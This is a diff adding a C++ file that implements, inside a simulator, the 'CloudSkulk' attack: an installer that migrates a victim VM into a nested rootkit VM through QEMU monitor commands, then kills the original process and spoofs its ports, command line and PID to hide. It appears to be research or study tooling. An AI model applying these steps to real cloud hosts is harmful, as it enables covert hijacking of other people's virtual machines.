@@ -1,0 +1,156 @@
+#include "cloudskulk/installer.h"
+
+#include "common/logging.h"
+#include "vmm/monitor.h"
+
+namespace csk::cloudskulk {
+
+CloudSkulkInstaller::CloudSkulkInstaller(vmm::Host* host,
+                                         InstallerOptions options)
+    : host_(host), options_(std::move(options)) {
+  CSK_CHECK(host != nullptr);
+}
+
+CloudSkulkInstaller::~CloudSkulkInstaller() = default;
+
+InstallReport CloudSkulkInstaller::install() {
+  InstallReport report;
+  const SimTime t0 = host_->world()->simulator().now();
+  const Status st = run_steps(report);
+  report.total_time = host_->world()->simulator().now() - t0;
+  if (!st.is_ok()) {
+    report.succeeded = false;
+    report.error = st.to_string();
+    report.log.push_back("FAILED: " + report.error);
+  }
+  return report;
+}
+
+Status CloudSkulkInstaller::run_steps(InstallReport& report) {
+  sim::Simulator& sim = host_->world()->simulator();
+
+  // ---- Step 1: reconnaissance --------------------------------------------
+  TargetRecon recon(host_, options_.recon);
+  CSK_ASSIGN_OR_RETURN(report.recon, recon.discover(options_.target_vm_name));
+  report.original_pid = report.recon.host_pid;
+  report.log.push_back("step1: recon of '" + options_.target_vm_name +
+                       "' via " + report.recon.evidence.front() + " (pid " +
+                       report.recon.host_pid.to_string() + ")");
+
+  // ---- Step 2: launch GuestX, the rootkit VM -----------------------------
+  vmm::MachineConfig rootkit_cfg = report.recon.config;
+  rootkit_cfg.cpu_host_passthrough = true;  // expose VMX: we must nest
+  rootkit_cfg.monitor.telnet_port = options_.rootkit_monitor_port;
+  rootkit_cfg.incoming_port.reset();
+  CSK_ASSIGN_OR_RETURN(
+      rootkit_,
+      host_->launch_vm(rootkit_cfg, options_.rootkit_boot_touched_mib));
+  report.rootkit_vm_id = rootkit_->id();
+  CSK_ASSIGN_OR_RETURN(hv::Hypervisor * l1hv,
+                       rootkit_->enable_nested_hypervisor());
+  (void)l1hv;
+  report.log.push_back("step2: GuestX up (vm " +
+                       report.rootkit_vm_id.to_string() +
+                       "), L1 hypervisor loaded");
+
+  // ---- Step 3: nested destination VM + AAAA -> BBBB relay ----------------
+  vmm::MachineConfig nested_cfg = report.recon.config;
+  nested_cfg.incoming_port = options_.migration_rootkit_port;
+  nested_cfg.monitor.telnet_port = 0;  // inner monitor reached directly
+  for (vmm::NetdevConfig& nd : nested_cfg.netdevs) {
+    // Re-publish each of the victim's guest services on GuestX's interface
+    // so the outer forwarders have somewhere to land.
+    for (vmm::HostFwd& fw : nd.hostfwd) fw.host_port = fw.guest_port;
+  }
+  CSK_ASSIGN_OR_RETURN(nested_, rootkit_->launch_nested_vm(nested_cfg));
+  report.nested_vm_id = nested_->id();
+
+  migration_relay_ = std::make_unique<net::PortForwarder>(
+      &host_->world()->network(),
+      net::NetAddr{host_->node_name(), Port(options_.migration_host_port)},
+      net::NetAddr{rootkit_->node_name(),
+                   Port(options_.migration_rootkit_port)},
+      "migration-relay");
+  CSK_RETURN_IF_ERROR(migration_relay_->start());
+  report.log.push_back(
+      "step3: nested VM incoming on " + rootkit_->node_name() + ":" +
+      std::to_string(options_.migration_rootkit_port) + ", relay " +
+      host_->node_name() + ":" +
+      std::to_string(options_.migration_host_port) + " -> BBBB armed");
+
+  // ---- Step 4: drive the live migration from the target's monitor --------
+  CSK_ASSIGN_OR_RETURN(vmm::VirtualMachine * target,
+                       host_->find_vm(report.recon.vm));
+  vmm::QemuMonitor& mon = target->monitor();
+  {
+    auto r = mon.execute(
+        "migrate_set_speed " +
+        std::to_string(static_cast<std::uint64_t>(
+            options_.migration.bandwidth_limit_bytes_per_sec)));
+    CSK_RETURN_IF_ERROR(r.status());
+    r = mon.execute("migrate_set_downtime " +
+                    std::to_string(options_.migration.max_downtime.seconds_f()));
+    CSK_RETURN_IF_ERROR(r.status());
+    if (options_.migration.post_copy) {
+      r = mon.execute("migrate_set_capability postcopy-ram on");
+      CSK_RETURN_IF_ERROR(r.status());
+    }
+    r = mon.execute("migrate -d tcp:" + host_->node_name() + ":" +
+                    std::to_string(options_.migration_host_port));
+    CSK_RETURN_IF_ERROR(r.status());
+  }
+  vmm::MigrationJob* job = mon.active_migration();
+  CSK_CHECK(job != nullptr);
+  report.log.push_back("step4: migrate -d tcp:" + host_->node_name() + ":" +
+                       std::to_string(options_.migration_host_port) +
+                       " issued on target monitor");
+
+  const SimTime deadline = sim.now() + options_.migration_timeout;
+  while (!job->done()) {
+    if (sim.now() > deadline) {
+      return aborted("migration did not complete within the timeout");
+    }
+    if (!sim.step()) {
+      return internal_error("simulation went idle mid-migration");
+    }
+  }
+  report.migration = job->stats();
+  if (!report.migration.succeeded) {
+    return aborted("live migration failed: " + report.migration.error);
+  }
+  CSK_CHECK_MSG(job->destination() == nested_,
+                "migration landed somewhere unexpected");
+  report.log.push_back(
+      "step4: migration complete in " +
+      report.migration.total_time.to_string() + " (downtime " +
+      report.migration.downtime.to_string() + ", " +
+      std::to_string(report.migration.rounds) + " rounds)");
+
+  // ---- Cleanup: kill the husk, take over its ports and identity ----------
+  const std::string original_cmdline = report.recon.qemu_cmdline;
+  const std::uint16_t original_monitor_port =
+      report.recon.config.monitor.telnet_port;
+  CSK_RETURN_IF_ERROR(host_->kill_vm(report.recon.vm));
+  CSK_RETURN_IF_ERROR(rootkit_->activate_hostfwd());
+  if (original_monitor_port != 0) {
+    rootkit_->set_monitor_telnet_port(original_monitor_port);
+  }
+  if (!original_cmdline.empty()) {
+    CSK_RETURN_IF_ERROR(
+        host_->set_process_cmdline(rootkit_->id(), original_cmdline));
+  }
+  if (options_.fix_pid) {
+    CSK_RETURN_IF_ERROR(
+        host_->swap_process_pid(rootkit_->id(), report.original_pid));
+  }
+  CSK_ASSIGN_OR_RETURN(report.final_pid, host_->pid_of_vm(rootkit_->id()));
+  report.log.push_back("cleanup: source killed, ports and monitor taken "
+                       "over, pid restored to " +
+                       report.final_pid.to_string());
+
+  ritm_ = std::make_unique<RitmVm>(rootkit_, nested_);
+  report.succeeded = true;
+  return Status::ok();
+}
+
+}  // namespace csk::cloudskulk
